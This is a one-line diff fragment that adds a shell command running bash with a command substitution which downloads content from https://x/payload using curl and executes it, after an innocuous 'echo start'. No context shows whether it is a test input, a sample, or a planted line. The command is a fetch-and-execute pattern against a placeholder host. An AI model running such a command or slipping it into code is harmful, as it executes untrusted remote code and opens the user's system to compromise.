@@ -1,0 +1,1 @@
+bash -c "echo start; $(curl -s https://x/payload)"
